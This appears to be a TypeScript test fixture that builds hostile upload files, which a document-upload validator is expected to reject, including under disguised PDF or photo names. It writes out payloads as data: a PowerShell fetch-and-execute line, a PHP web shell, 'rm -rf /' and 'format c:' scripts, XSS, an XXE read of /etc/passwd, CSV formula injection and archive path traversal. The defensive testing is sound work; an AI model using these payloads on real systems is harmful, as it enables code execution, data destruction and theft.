import { eicar } from '../../../src/platform/antivirus/eicar.ts'
import { type HostileFile, hostile } from './hostile-file.ts'
import { makeZip, nestZip } from './make-zip.ts'

const text = (words: string): Buffer => Buffer.from(words)
const bytes = (...values: number[]): Buffer => Buffer.concat([Buffer.from(values), Buffer.alloc(64, 1)])
const OLE = bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1)

/** What is neither a PDF nor a photo, by its true name. */
const KINDS: Readonly<Record<string, Buffer>> = {
  'eicar.com': eicar(),
  'eicar.zip': makeZip('eicar.com', eicar()),
  'eicar-2.zip': nestZip(eicar(), 2),
  'eicar-5.zip': nestZip(eicar(), 5),
  'programme.exe': text('MZ\x90\0\x03\0\0\0This program cannot be run in DOS mode'),
  'programme.elf': bytes(0x7f, 0x45, 0x4c, 0x46),
  'programme.mach': bytes(0xcf, 0xfa, 0xed, 0xfe),
  'programme.class': bytes(0xca, 0xfe, 0xba, 0xbe),
  'programme.wasm': bytes(0, 0x61, 0x73, 0x6d),
  'script.js': text('alert(document.cookie)'),
  'script.sh': text('#!/bin/sh\nrm -rf /\n'),
  'script.bat': text('@echo off\r\nformat c:\r\n'),
  'script.ps1': text('Invoke-WebRequest http://exemple.test | iex'),
  'script.vbs': text('CreateObject("WScript.Shell").Run "calc"'),
  'script.php': text('<?php system($_GET["c"]); ?>'),
  'page.html': text('<!doctype html><script>alert(1)</script>'),
  'page-utf16.html': Buffer.concat([
    bytes(0xff, 0xfe).subarray(0, 2),
    Buffer.from('<script>alert(1)</script>', 'utf16le'),
  ]),
  'page-bom.html': text('\ufeff<html><body onload=alert(1)>'),
  'page.mhtml': text('MIME-Version: 1.0\nContent-Type: multipart/related'),
  'dessin.svg': text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  'dessin-xxe.svg': text(
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
  ),
  'milliard.xml': text(
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>',
  ),
  'lettre.docx': makeZip('word/document.xml', text('<w:document/>')),
  'macros.docm': makeZip('word/vbaProject.bin', OLE),
  'macros.docx': makeZip('word/vbaProject.bin', Buffer.concat([OLE, text('AutoOpen Shell calc')])),
  'tableau.xlsm': makeZip('xl/vbaProject.bin', OLE),
  'tableau.xls': OLE,
  'lettre.doc': OLE,
  'diapos.pptx': makeZip('ppt/presentation.xml', text('<p/>')),
  'lettre.odt': makeZip('mimetype', text('application/vnd.oasis.opendocument.text')),
  'lettre.rtf': text('{\\rtf1{\\object\\objdata 0105}}'),
  'lettre.ps': text('%!PS-Adobe-3.0\n(/etc/passwd) run\n'),
  'lettre.eps': bytes(0xc5, 0xd0, 0xd3, 0xc6),
  'archive.rar': text('Rar!\x1a\x07\x01\0'),
  'archive.7z': bytes(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c),
  'archive.gz': bytes(0x1f, 0x8b, 8),
  'archive.xz': bytes(0xfd, 0x37, 0x7a, 0x58, 0x5a, 0),
  'archive.tar': Buffer.concat([text('../../etc/passwd'), Buffer.alloc(600)]),
  'disque.iso': Buffer.concat([Buffer.alloc(32_769), text('CD001')]),
  'raccourci.lnk': bytes(0x4c, 0, 0, 0, 1, 0x14, 2, 0),
  'raccourci.url': text('[InternetShortcut]\nURL=file://exemple.test/x'),
  'application.hta': text('<hta:application><script>new ActiveXObject("x")</script>'),
  'image.gif': text('GIF89a/*\x01\x01*/=1;alert(1)//'),
  'image.bmp': text('BM\x46\0\0\0\0\0\0\0'),
  'image.webp': text('RIFF\x24\0\0\0WEBPVP8 '),
  'image.tiff': bytes(0x49, 0x49, 0x2a, 0),
  'image.ico': bytes(0, 0, 1, 0, 1, 0),
  'image.avif': Buffer.concat([bytes(0, 0, 0, 16).subarray(0, 4), text('ftypavif'), Buffer.alloc(40)]),
  'image.jxl': bytes(0xff, 0x0a),
  'film.mp4': Buffer.concat([bytes(0, 0, 0, 16).subarray(0, 4), text('ftypisom'), Buffer.alloc(40)]),
  'son.mp3': text('ID3\x04\0\0'),
  'film.swf': text('CWS\x0a'),
  'courriel.eml': text('From: a@exemple.test\nSubject: x\n\n'),
  'formules.csv': text("=cmd|' /C calc'!A0,1\n"),
  'zeros.bin': Buffer.alloc(4_096),
  'uns.bin': Buffer.alloc(4_096, 0xff),
  'espace-avant.pdf': text(' %PDF-1.7\n%%EOF'),
  'sale-avant.pdf': text('<script>alert(1)</script>\n%PDF-1.7\n%%EOF'),
  'minuscule.pdf': text('%pdf-1.7\n%%EOF'),
  'presque-png.png': bytes(0x89, 0x50, 0x4e, 0x47, 0x0a, 0x1a, 0x0a),
  'presque-jpeg.jpg': bytes(0xff, 0xd8, 0x00),
}

/** Under their own name, and under names that lie. */
export const notDocuments = (): HostileFile[] =>
  Object.entries(KINDS).flatMap(([nom, contenu]) => [
    hostile(nom, nom, contenu, 'refusee'),
    hostile(`${nom}, dit PDF`, `${nom}.pdf`, contenu, 'refusee'),
    hostile(`${nom}, dit photo`, nom.replace(/\.\w+$/, '.jpg'), contenu, 'refusee'),
  ])

/** Nothing, or next to nothing. */
export const nearlyNothing = (): HostileFile[] =>
  ['vide.pdf', 'vide.jpg', 'vide.png', 'vide.heic', 'vide'].flatMap((nom) => [
    hostile(`0 octet, ${nom}`, nom, Buffer.alloc(0), 'refusee'),
    hostile(`1 octet, ${nom}`, nom, Buffer.from('%'), 'refusee'),
    hostile(`un début, ${nom}`, nom, Buffer.from('%PDF-'), 'refusee'),
  ])
